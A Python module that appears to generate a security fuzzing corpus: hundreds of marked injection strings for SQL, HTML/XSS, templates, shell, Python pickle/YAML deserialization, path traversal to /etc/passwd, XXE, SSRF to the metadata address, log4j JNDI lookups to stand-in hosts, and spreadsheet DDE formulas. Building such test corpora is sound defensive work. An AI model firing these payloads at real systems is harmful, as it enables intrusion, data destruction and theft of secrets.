# ruff: noqa: E501  (tables of files and texts: one a line)
"""More than five hundred strings that mean something to a database, a browser, a template, a shell or a parser.

MARK stands in each: whoever carries one out leaves it where it can be seen.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

MARK = "xss7391"
TABLE = "pwned7391"
PRODUCT = str(7391 * 9173)
"""What `7391*9173` comes to, if somebody works it out."""

_SQL_ENDS = ("'", '"', "')", '")', "'))", "`", "\\'", "%27", "＇", "ʼ", "1", "1)", "")
_SQL_ACTS = (
    f"; CREATE TABLE {TABLE}(a int)--", f"; DROP TABLE cases_application; CREATE TABLE {TABLE}()--", " OR 1=1--", " OR '1'='1",
    " UNION SELECT NULL,version(),NULL--", "; SELECT pg_sleep(9)--", " AND (SELECT pg_sleep(9)) IS NULL--",
    f"||(SELECT query_to_xml('create table {TABLE}()',true,true,''))||", f"; COPY (SELECT 1) TO PROGRAM 'touch /tmp/{TABLE}'--",
    " AND 1=CAST((SELECT current_user) AS int)--", f"/**/;/**/CREATE/**/TABLE/**/{TABLE}()--",
)  # fmt: skip
_HTML = (
    f"<script>window.{MARK}=1</script>", f"<{MARK}>", f"<img src=x onerror={MARK}()>", f"<svg onload={MARK}()>",
    f"<svg/onload={MARK}()>", f"<body onpageshow={MARK}()>", f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<math><mtext><{MARK}>", f"<details open ontoggle={MARK}()>", f"<a href=javascript:{MARK}()>x</a>",
    f"<form action=javascript:{MARK}()><input type=submit>", f"<input autofocus onfocus={MARK}()>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>", f"<base href=//{MARK}.example/>",
    f"<link rel=stylesheet href=//{MARK}.example/x.css>", f"<style>@import'//{MARK}.example'</style>",
    f"<object data=javascript:{MARK}()>", f"<video><source onerror={MARK}()>", f"<template><script>{MARK}()</script>",
    f"<noscript><p title=\"</noscript><{MARK}>\">", f"<!--<script>{MARK}()</script>-->", f"<![CDATA[<{MARK}>]]>",
    f"<ScRiPt>{MARK}()</sCrIpT>", f"<scr<script>ipt>{MARK}()</script>", f"<img src=1 href=1 onerror=\"{MARK}()\">",
    f"<x onclick={MARK}() tabindex=1 autofocus>", f"\u2028<script>{MARK}()</script>", f"＜script＞{MARK}()＜/script＞",
)  # fmt: skip
_HTML_BEFORE = ("", "'>", '">', "</textarea>", "</title>", "</option></select>", "]]>", "--!>")
_ATTRIBUTES = tuple(
    f"{quote}{space}{event}={MARK}(){tail}"
    for quote, space, event, tail in product(
        ('"', "'", "` "), (" ", "\t", "/"), ("onfocus", "onmouseover", "style", "autofocus onfocus"), (" x=", " x='")
    )
)
_TEMPLATES = tuple(
    text.replace("X", "7391*9173")
    for text in (
        "{{X}}", "{{ X }}", "{% X %}", "{%print(X)%}", "${X}", "#{X}", "<%= X %>", "*{X}", "@(X)", "{{=X}}", "[[X]]", "{X}", "$X$",
        "{{'x'|add:X}}", "{% debug %}", "{% load log %}", "{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% with a=X %}{{a}}{% endwith %}", "{% now 'Y' %}{{X}}", "#set($a=X)$a", "%(X)s", "{0.__class__}", "{X!r}",
    )
)  # fmt: skip
_SHELL = tuple(
    f"{before}touch /tmp/{TABLE}{after}"
    for before, after in (
        (";", ""), ("|", ""), ("||", ""), ("&&", ""), ("&", "&"), ("`", "`"), ("$(", ")"), ("\n", "\n"), ("'; ", "; '"), ("\"; ", "; \""),
        ("| /bin/sh -c '", "'"), ("%0a", "%0a"), ("() { :; }; ", ""), ("!", ""), ("=cmd|'/c ", "'!A1"),
    )
)  # fmt: skip
_CODE = (
    f"__import__('os').system('touch /tmp/{TABLE}')", f"exec(\"open('/tmp/{TABLE}','w')\")", f"eval(compile('open(\"/tmp/{TABLE}\",\"w\")','','exec'))",
    f"!!python/object/apply:os.system ['touch /tmp/{TABLE}']", f"!!python/object/new:subprocess.check_output [['touch','/tmp/{TABLE}']]",
    f"cos\nsystem\n(S'touch /tmp/{TABLE}'\ntR.", "lambda: __builtins__", "().__class__.__bases__[0]", "f'{7391*9173}'", "household.income; import os",
    "&a [*a,*a]", "a: &a [x]\nb: *a", "<<: {a: b}", "? [a]\n: b", "- !!set {a}", "%YAML 1.1\n---\na", "{a: b, a: c}", "'{\"a\":", "[" * 2000, "{" * 2000, "(" * 2000,
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", "=HYPERLINK(\"http://x.example\",\"a\")", "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\",\"/c calc\",\"x\")",
)  # fmt: skip
_PATHS = tuple(
    f"{dots}{target}"
    for dots, target in product(("../" * 8, "..\\" * 8, "....//" * 8, "%2e%2e%2f" * 8, "..%252f" * 8, "/", "file:///", "php://filter/resource="), ("etc/passwd", "proc/self/environ", "var/keys/secret_key"))
)  # fmt: skip
_PARSERS = (
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", f"<!--#exec cmd='touch /tmp/{TABLE}'-->",
    "*)(uid=*))(|(uid=*", "' or count(/*)=1 or ''='", "{\"$gt\": \"\"}", "{\"__proto__\": {\"x\": 1}}", "constructor.prototype", "true, $where: '1 == 1'",
    "x\r\nSet-Cookie: a=b", f"x\r\nX-{MARK}: 1", "x%0d%0aSet-Cookie:a=b", "http://169.254.169.254/latest/meta-data/", "//evil.example", "https://evil.example", "javascript:alert(1)", "\\\\evil.example\\x",
    "${jndi:ldap://x.example/a}", "#read(\"/etc/passwd\")", "#eval(\"1+1\")", "$ sum $", "#import \"/etc/passwd\"", "*bold*", "= heading", "#set page(width: 1pt)", "@label", "\\u0000",
)  # fmt: skip
_ODD = (
    "\u202e" + MARK, "\ufeff" + MARK, "\u200b", "a\u0301" * 50, "\U00020000\U0002a6d6", "😀" * 20, "\ud7ff\ue000", "İıſK", "١٢٣", "１２３", "ⅣⅧ", "NaN", "Infinity", "-0", "1e309", "0x1F", "1_000",
    "9" * 400, "-1", "9999999999999999999", "2026-02-30", "0000-00-00", "99999-01-01", "24:60", "null", "undefined", "None", "true", "[]", "{}", " ", "\t", "\n", "a" * 5000, "中" * 5000, "%", "%s%n%x", "%00", "\\", "'", '"', "`", "\x01\x02\x1f\x7f", "\0", "a\0b",
)  # fmt: skip


def corpus() -> list[str]:
    """All of them, each once, in an order that mixes the kinds."""
    kinds = [
        [end + act for end, act in product(_SQL_ENDS, _SQL_ACTS)],
        [before + text for before, text in product(_HTML_BEFORE, _HTML)],
        list(_ATTRIBUTES), list(_TEMPLATES), list(_SHELL), list(_CODE), list(_PATHS), list(_PARSERS), list(_ODD),
    ]  # fmt: skip
    return list(dict.fromkeys(_mixed(kinds)))


def _mixed(kinds: list[list[str]]) -> Iterator[str]:
    """Each kind spread evenly over the whole."""
    placed = [
        ((number + 0.5) / len(kind), which, text)
        for which, kind in enumerate(kinds)
        for number, text in enumerate(kind)
    ]
    for _place, _which, text in sorted(placed):
        yield text
